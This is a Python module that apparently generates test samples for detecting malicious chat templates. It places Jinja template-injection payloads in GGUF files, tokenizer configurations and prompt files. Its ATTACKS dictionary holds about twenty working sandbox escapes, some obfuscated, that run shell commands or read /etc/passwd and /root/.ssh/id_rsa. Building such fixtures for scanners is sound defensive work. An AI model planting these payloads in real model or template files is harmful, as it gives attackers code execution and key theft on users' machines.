"""Chat templates that leave Jinja: in GGUF, in a tokenizer's configuration, in files of their own."""

import json
import struct
from collections.abc import Iterator

from .sample import COMMAND, Sample

__all__ = ["gguf", "samples"]

PLAIN = (
    "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' }}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
RUN = f"popen('{COMMAND}').read()"
ATTACKS = {
    "cycler": "{{ cycler.__init__.__globals__.os." + RUN + " }}",
    "lipsum by index": "{{ lipsum['__globals__']['os']." + RUN + " }}",
    "joiner by filter": "{{ joiner|attr('__init__')|attr('__globals__')|attr('__getitem__')('os') }}",
    "namespace": "{% set n = namespace.__init__.__globals__ %}{{ n['os']." + RUN + " }}",
    "self": "{{ self.__init__.__globals__.__builtins__.__import__('os')." + RUN + " }}",
    "subclasses": "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}"
    "{{ c('" + COMMAND + "', shell=True) }}{% endif %}{% endfor %}",
    "names joined": "{{ ()['__cla' ~ 'ss__']['__ba' ~ 'se__']['__subcla' ~ 'sses__']()[132]"
    "['__in' + 'it__']['__glo' + 'bals__'] }}",
    "escaped names": "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fmro\\x5f\\x5f')|last"
    "|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}",
    "names by format": "{{ ''|attr('%c%cclass%c%c'|format(95,95,95,95))|attr('%c%cbase%c%c'|format(95,95,95,95)) }}",
    "names by a join filter": "{{ []|attr(['_'*2,'class','_'*2]|join)|attr(['__','base','__']|join) }}",
    "names in a variable": "{% set u = '_'*2 %}{% set k = u ~ 'globals' ~ u %}{{ lipsum[k]['os'].popen('id').read() }}",
    "str.format of attributes": "{{ '{0.__init__.__globals__[os]}'.format(cycler) }}",
    "a macro": "{% macro m(x) %}{{ x.__globals__.os." + RUN + " }}{% endmacro %}{{ m(m.__init__ or lipsum) }}",
    "reversed name": "{{ lipsum['__slabolg__'[::-1]]['os'].popen('id').read() }}",
    "map of attribute": "{{ [cycler]|map(attribute='__init__.__globals__')|list }}",
    "a generator's frame": "{{ range.__call__.__self__.__class__.__base__.__subclasses__() }}",
    "include of a file": "{% include '/etc/passwd' %}",
    "import of a file": "{% import '/root/.ssh/id_rsa' as k %}{{ k }}",
    "strftime_now's globals": "{{ strftime_now.__globals__['datetime'].__loader__.load_module('os').system('"
    + COMMAND
    + "') }}",
    "raise_exception's code": "{{ raise_exception.__code__.__class__ }}{{ raise_exception.__globals__ }}",
}


def _text(text: str) -> bytes:
    data = text.encode()
    return struct.pack("<Q", len(data)) + data


def gguf(metadata: dict[str, "str | int | list[str]"], tensors: int = 1) -> bytes:
    """A GGUF of version 3 with `tensors` small F32 tensors."""
    out = b"GGUF" + struct.pack("<IQQ", 3, tensors, len(metadata))
    for key, value in metadata.items():
        out += _text(key)
        if isinstance(value, str):
            out += struct.pack("<I", 8) + _text(value)
        elif isinstance(value, int):
            out += struct.pack("<II", 4, value)
        else:
            out += struct.pack("<IIQ", 9, 8, len(value)) + b"".join(map(_text, value))
    for number in range(tensors):
        out += _text(f"blk.{number}.attn_q.weight") + struct.pack("<IQIQ", 1, 8, 0, number * 32)
    return out + bytes(-len(out) % 32 + 32 * tensors)


def _metadata(**more: "str | int | list[str]") -> dict[str, "str | int | list[str]"]:
    return {
        "general.architecture": "llama",
        "general.name": "tiny",
        "llama.block_count": 1,
        "tokenizer.ggml.model": "gpt2",
        "tokenizer.ggml.tokens": ["<s>", "</s>", "a"],
        **more,
    }


def _placed(number: int, attack: str) -> tuple[str, dict[str, bytes]]:
    """Where the attack stands goes round, so that no place has only one kind of it."""
    whole = (attack, attack + PLAIN, PLAIN.replace("{% endfor %}", attack + "{% endfor %}"), PLAIN + attack)[number % 4]
    tokenizer = {"tokenizer_class": "PreTrainedTokenizerFast", "bos_token": "<s>", "model_max_length": 2048}
    config = b'{"model_type": "llama", "architectures": ["LlamaForCausalLM"]}'
    match number % 6:
        case 0:
            return "GGUF", {"tiny.Q4_0.gguf": gguf(_metadata(**{"tokenizer.chat_template": whole}))}
        case 1:
            return "tokenizer_config", {
                "tokenizer_config.json": json.dumps({**tokenizer, "chat_template": whole}).encode(),
                "config.json": config,
            }
        case 2:
            named = {"tokenizer.chat_template": PLAIN, "tokenizer.chat_template.tool_use": whole}
            return "GGUF, a second template", {"tiny.gguf": gguf(_metadata(**named))}
        case 3:
            return "chat_template.jinja", {"chat_template.jinja": whole.encode(), "config.json": config}
        case 4:
            listed = [{"name": "default", "template": PLAIN}, {"name": "rag", "template": whole}]
            return "list of templates", {
                "tokenizer_config.json": json.dumps({**tokenizer, "chat_template": listed}).encode()
            }
    return "chat_template.json", {
        "chat_template.json": json.dumps({"chat_template": whole}).encode(),
        "config.json": config,
    }


def samples() -> Iterator[Sample]:
    for number, (name, attack) in enumerate(ATTACKS.items()):
        place, files = _placed(number, attack)
        yield Sample("template that leaves jinja", f"{name}: {place}", files)
    for number, name in enumerate(
        ("cycler", "names joined", "subclasses", "escaped names", "map of attribute", "self")
    ):
        place, files = _placed(number + 14, ATTACKS[name])
        yield Sample("template that leaves jinja", f"{name}, elsewhere: {place}", files)
    prompt = {
        "_type": "prompt",
        "input_variables": ["q"],
        "template_format": "jinja2",
        "template": ATTACKS["lipsum by index"],
    }
    yield Sample("template that leaves jinja", "LangChain's prompt", {"prompt.json": json.dumps(prompt).encode()})
    body = f"name: p\ntemplate_format: jinja2\nprompt: |\n  {ATTACKS['cycler']}\n".encode()
    yield Sample("template that leaves jinja", "prompt in YAML", {"prompt.yaml": body})
